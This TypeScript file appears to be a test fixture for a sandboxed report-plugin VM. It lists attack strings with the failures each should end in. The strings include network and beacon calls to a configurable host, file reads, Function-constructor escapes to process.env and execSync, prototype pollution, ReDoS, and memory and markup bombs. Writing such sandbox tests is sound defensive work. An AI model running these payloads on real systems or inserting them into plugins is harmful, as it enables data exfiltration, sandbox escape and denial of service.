import type { Attack, Targets } from "./attack.ts";

/** What the code of a plugin tries inside its VM. */
export function attacksByCode({ host, file }: Targets): readonly Attack[] {
  const url = `"http://${host}/code"`;
  const path = JSON.stringify(file);
  return [
    ...absent("network", [
      `fetch(${url})`,
      `new XMLHttpRequest().open("GET", ${url})`,
      `new WebSocket("ws://${host}/socket")`,
      `new EventSource(${url})`,
      `navigator.sendBeacon(${url}, view.employee.name)`,
      `new Image().src = ${url}`,
      `importScripts(${url})`,
      `new Worker(${url})`,
      `new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }] })`,
      `require("node:http").get(${url})`,
      `process.binding("tcp_wrap")`,
      `std.urlGet(${url})`,
      `os.exec(["curl", ${url}])`,
      `Deno.connect({ port: 1 })`,
      `Bun.fetch(${url})`,
      `setTimeout(() => fetch(${url}), 0)`,
    ]),
    ...absent("files", [
      `require("node:fs").readFileSync(${path}, "utf8")`,
      `process.getBuiltinModule("fs").readFileSync(${path})`,
      `process.mainModule.require("fs")`,
      `std.loadFile(${path})`,
      `std.open(${path}, "r").readAsString()`,
      `os.open(${path}, 0)`,
      `Deno.readTextFileSync(${path})`,
      `new FileReader()`,
    ]),
    ...absent("host", [
      `(() => {}).constructor("return process")().env`,
      `eval("process").env`,
      `view.constructor.constructor("return process")().kill(1)`,
      `Reflect.construct(Function, ["return globalThis.process.exit(1)"])().x`,
      `globalThis.constructor.constructor("return require")()("child_process").execSync("id")`,
      `Object.getPrototypeOf(async function () {}).constructor("return process.env")().then.call(null)`,
      `WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109]))`,
      `new SharedArrayBuffer(8)`,
      `console.log(view.employee.name)`,
      `structuredClone(globalThis)`,
      `Atomics.wait(new Int32Array(4), 0, 0)`,
    ]),
    { area: "network", name: "imports an address while it is read", before: `import ${url};`, ends: ["plugin-failed"] },
    { area: "files", name: "imports a file while it is read", before: `import secret from ${path};`, ends: ["plugin-failed"] },
    { area: "network", name: "imports an address while it writes", render: `return import(${url})`, ends: ["markup-missing"] },
    { area: "files", name: "imports a file while it writes", render: `return import("file://${file}")`, ends: ["markup-missing"] },
    ...OF_THE_HOST,
    ...WITHOUT_END,
    ...TOO_MUCH,
  ];
}

/** Each needs something that is not there. */
function absent(area: Attack["area"], calls: readonly string[]): Attack[] {
  return calls.map((call) => ({ area, name: call, render: `return String(${call})`, ends: ["plugin-failed"] }));
}

const PLAIN = 'return "<p>" + view.employee.name + "</p>"';

/** Tries on the two calls that the host makes, and on what the host reads of an answer. */
const OF_THE_HOST: readonly Attack[] = [
  {
    area: "host",
    name: "replaces what the host calls",
    render: `JSON.stringify = () => '"<script>"'; JSON.parse = () => 0; Object.freeze = (value) => value; ${PLAIN}`,
    ends: ["printed"],
  },
  {
    area: "host",
    name: "pollutes every object for the host and for the next document",
    render: `Object.prototype.html = "<script>"; Object.prototype.toJSON = () => "<b>"; Array.prototype.push = () => {}; String.prototype.toJSON = () => "<i>"; ${PLAIN}`,
    ends: ["printed"],
  },
  {
    area: "host",
    name: "changes what it was given",
    render: `"use strict"; view.employee.name = "x"; ${PLAIN}`,
    ends: ["plugin-failed"],
  },
  { area: "host", name: "gives an object with a text of its own", render: `return new String("<p>x</p>")`, ends: ["markup-missing"] },
  { area: "host", name: "gives a promise", render: `return Promise.resolve("<p>x</p>")`, ends: ["markup-missing"] },
  { area: "host", name: "gives a proxy of a text", render: `return new Proxy(new String("x"), {})`, ends: ["markup-missing"] },
  {
    area: "host",
    name: "throws the client's name",
    render: `throw { name: "Noor", message: view.employee.name }`,
    ends: ["plugin-failed"],
  },
  { area: "host", name: "throws a bare text", render: `throw view.employee.name`, ends: ["plugin-failed"] },
  { area: "host", name: "throws nothing", render: `throw undefined`, ends: ["plugin-failed"] },
  {
    area: "host",
    name: "throws a proxy that answers everything",
    render: `throw new Proxy({}, { get: () => view.employee.name })`,
    ends: ["plugin-failed"],
  },
  {
    area: "host",
    name: "names a place that is a number of the client",
    render: `throw { name: "Error", message: "", stack: "report.js:26014219:1" }`,
    ends: ["plugin-failed"],
  },
  { area: "host", name: "fails with a source map that is none", sourceMap: "{", render: `throw new Error("x")`, ends: ["plugin-failed"] },
  {
    area: "host",
    name: "fails with a source map of other things",
    sourceMap: `{"version":3,"sources":[null],"names":7,"mappings":"AAAA;;;;zzzzzzzzzzz"}`,
    render: `throw new Error("x")`,
    ends: ["plugin-failed"],
  },
  {
    area: "host",
    name: "leaves work for later",
    render: `const again = () => Promise.resolve().then(again); again(); ${PLAIN}`,
    ends: ["printed"],
  },
  { area: "host", name: "writes a NUL", render: `return "<p>a\\0b</p>"`, ends: ["markup-text-broken"] },
  { area: "host", name: "writes half a character", render: `return "<p>\\ud800</p>"`, ends: ["markup-text-broken"] },
];

const slow = (name: string, render: string, before = ""): Attack => ({
  area: "time",
  name,
  render,
  before,
  ends: ["plugin-too-slow"],
  slow: true,
});

const WITHOUT_END: readonly Attack[] = [
  slow("an endless loop", "for (;;);"),
  slow("an endless loop while it is read", PLAIN, "for (;;);"),
  slow("an endless pattern", 'return String(/^(a+)+$/.test("a".repeat(40) + "b"))'),
  slow("an endless generator", "function* f() { for (;;) yield 1; } for (const x of f());"),
  slow("an endless order", "for (;;) [3, 1, 2].sort(() => 1)"),
  slow("an endless getter of what it throws", "throw { get name() { for (;;); } }"),
  slow("a loop that never asks whether to stop", "const block = new Uint8Array(30e6); for (;;) block.fill(1)"),
  slow("catching whatever would stop it", "for (;;) { try { for (;;); } catch {} }"),
  { area: "time", name: "recursion without end", render: "const f = (n) => f(n + 1) + 1; return String(f(0))", ends: ["plugin-too-deep"] },
  {
    area: "time",
    name: "recursion through a getter",
    render: "const o = { get x() { return this.x; } }; return o.x",
    ends: ["plugin-too-deep"],
  },
  {
    area: "time",
    name: "recursion through a proxy",
    render: "const p = new Proxy({}, { get: (_, k) => p[k] }); return p.x",
    ends: ["plugin-too-deep"],
  },
  { area: "time", name: "a deep pile of brackets", render: 'JSON.parse("[".repeat(1e5)); return ""', ends: ["plugin-too-deep"] },
];

const bomb = (name: string, render: string): Attack => ({
  area: "memory",
  name,
  render,
  // A busy machine may reach the time before it reaches the memory: either stops it.
  ends: ["plugin-out-of-memory", "plugin-too-slow", "plugin-failed"],
  slow: true,
});

const TOO_MUCH: readonly Attack[] = [
  bomb("one huge array", "return String(new Uint8Array(1e9).length)"),
  bomb("ever more text", 'const all = []; for (;;) all.push("x".repeat(1e6) + all.length)'),
  bomb("ever more objects", "const all = []; for (;;) all.push({ all })"),
  bomb("ever more keys", "const all = new Map(); for (let n = 0; ; n++) all.set(n, [n])"),
  bomb("a text twice as long every time", 'let text = "x"; for (;;) text += text'),
  bomb("a number without end", "return String(2n ** (2n ** 40n))"),
  { area: "size", name: "a flood of output", render: 'return "x".repeat(6 * 1024 * 1024)', ends: ["markup-too-large"] },
  { area: "size", name: "more elements than a report has", render: 'return "<br>".repeat(60001)', ends: ["markup-refused"] },
  { area: "size", name: "a million elements", render: 'return "<p>".repeat(1e6)', ends: ["markup-refused"] },
  { area: "size", name: "elements ever deeper", render: 'return "<div>".repeat(1e6)', ends: ["markup-refused"] },
  {
    area: "size",
    name: "bold that opens again in every paragraph",
    render: 'return Array.from({ length: 5000 }, (_, n) => "<p><b id=a" + n + ">x</p>").join("") + "<p>x".repeat(50000)',
    ends: ["markup-refused"],
  },
  {
    area: "size",
    name: "ends of what never began",
    render: 'return "<span>".repeat(50) + "</x>".repeat(1.2e6)',
    ends: ["printed", "plugin-too-slow"],
  },
  {
    area: "size",
    name: "an element with a million attributes",
    render: 'return "<p " + Array.from({ length: 5e5 }, (_, n) => "a" + n.toString(36)).join(" ") + ">x</p>"',
    ends: ["plugin-too-slow", "markup-refused", "plugin-out-of-memory"],
    slow: true,
  },
];
